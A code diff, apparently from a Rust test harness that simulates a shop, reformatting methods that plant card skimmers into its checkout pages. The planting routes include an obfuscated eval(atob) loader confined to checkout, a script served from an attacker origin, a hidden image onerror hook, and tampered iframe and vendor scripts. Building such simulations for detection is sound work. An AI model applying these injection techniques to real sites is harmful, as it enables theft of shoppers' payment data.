@@ -131,25 +131,15 @@ impl Shop {
     pub fn append_skimmer_to_first_party(&self) -> Planted {
         let code = self.with_exfil(FIRST_PARTY_SKIMMER);
         self.append_to(Origin::Shop, "/static/js/checkout.js", &code);
-        Planted {
-            modified: self.url(Origin::Shop, "/static/js/checkout.js"),
-            added: None,
-            code,
-        }
+        Planted { modified: self.url(Origin::Shop, "/static/js/checkout.js"), added: None, code }
     }
 
     /// Magento style: adds a new inline `<script>` with `code` at the end of `/checkout`'s
     /// body, as if stored in the CMS footer. See [`Shop::inline_skimmer_code`].
     pub fn add_inline_script(&self, code: &str) -> Planted {
         let block = format!("<script>\n{code}\n</script>\n");
-        self.edit(Origin::Shop, "/checkout", |page| {
-            insert_before_last(&mut page.body, "</body>", &block)
-        });
-        Planted {
-            modified: self.checkout_url(),
-            added: None,
-            code: code.to_string(),
-        }
+        self.edit(Origin::Shop, "/checkout", |page| insert_before_last(&mut page.body, "</body>", &block));
+        Planted { modified: self.checkout_url(), added: None, code: code.to_string() }
     }
 
     /// A dynamically inserted script: appends a `document.createElement('script')` loader to
@@ -162,8 +152,7 @@ impl Shop {
         self.set_resource(
             Origin::Attacker,
             script_path,
-            super::Resource::js(self.with_exfil(INJECTED_PAYLOAD))
-                .with_header("Access-Control-Allow-Origin", "*"),
+            super::Resource::js(self.with_exfil(INJECTED_PAYLOAD)).with_header("Access-Control-Allow-Origin", "*"),
         );
         let code = INJECTOR.replace("{{SCRIPT}}", &script_url);
         self.edit(Origin::Shop, "/checkout", |page| {
@@ -173,14 +162,9 @@ impl Shop {
             let Some(end) = page.body[start..].find("</script>") else {
                 panic!("shop: the inline shop-config script is not closed");
             };
-            page.body
-                .insert_str(start + end, code.trim_start_matches('\n'));
+            page.body.insert_str(start + end, code.trim_start_matches('\n'));
         });
-        Planted {
-            modified: self.checkout_url(),
-            added: Some(script_url),
-            code,
-        }
+        Planted { modified: self.checkout_url(), added: Some(script_url), code }
     }
 
     /// A loader: appends `eval(atob("…"))` to the first-party `/static/js/vendor.min.js`,
@@ -188,13 +172,10 @@ impl Shop {
     pub fn add_eval_loader(&self) -> Planted {
         let payload = self.with_exfil(EVAL_PAYLOAD);
         let encoded = base64::engine::general_purpose::STANDARD.encode(payload);
-        let code = format!("!function(){{try{{/checkout/.test(location.href)&&eval(atob(\"{encoded}\"))}}catch(e){{}}}}();\n");
+        let code =
+            format!("!function(){{try{{/checkout/.test(location.href)&&eval(atob(\"{encoded}\"))}}catch(e){{}}}}();\n");
         self.append_to(Origin::Shop, "/static/js/vendor.min.js", &code);
-        Planted {
-            modified: self.url(Origin::Shop, "/static/js/vendor.min.js"),
-            added: None,
-            code,
-        }
+        Planted { modified: self.url(Origin::Shop, "/static/js/vendor.min.js"), added: None, code }
     }
 
     /// Appends one line to the payment provider's `/static/fields.js` inside the iframe. It
@@ -203,11 +184,7 @@ impl Shop {
     pub fn alter_iframe_script(&self) -> Planted {
         let code = self.with_exfil(IFRAME_SKIMMER);
         self.append_to(Origin::Payment, "/static/fields.js", &code);
-        Planted {
-            modified: self.url(Origin::Payment, "/static/fields.js"),
-            added: None,
-            code,
-        }
+        Planted { modified: self.url(Origin::Payment, "/static/fields.js"), added: None, code }
     }
 
     /// Adds `<img src="/static/img/trust-badge.png" onerror="…">` to `/checkout`. The image does
@@ -217,14 +194,8 @@ impl Shop {
         let tag = format!(
             "<img id=\"trust-badge\" src=\"/static/img/trust-badge.png\" alt=\"\" width=\"1\" height=\"1\" style=\"position:absolute;left:-9999px\" onerror=\"{code}\">\n"
         );
-        self.edit(Origin::Shop, "/checkout", |page| {
-            insert_before_last(&mut page.body, "</body>", &tag)
-        });
-        Planted {
-            modified: self.checkout_url(),
-            added: None,
-            code,
-        }
+        self.edit(Origin::Shop, "/checkout", |page| insert_before_last(&mut page.body, "</body>", &tag));
+        Planted { modified: self.checkout_url(), added: None, code }
     }
 
     /// Supply chain (Ticketmaster / polyfill.io style): the vendor's `/analytics.js`, loaded
@@ -233,11 +204,7 @@ impl Shop {
     pub fn alter_vendor_script(&self) -> Planted {
         let code = self.with_exfil(VENDOR_SKIMMER);
         self.append_to(Origin::Vendor, "/analytics.js", &code);
-        Planted {
-            modified: self.url(Origin::Vendor, "/analytics.js"),
-            added: None,
-            code,
-        }
+        Planted { modified: self.url(Origin::Vendor, "/analytics.js"), added: None, code }
     }
 
     /// A fake payment form (inline script): hides the provider's iframe and shows card inputs
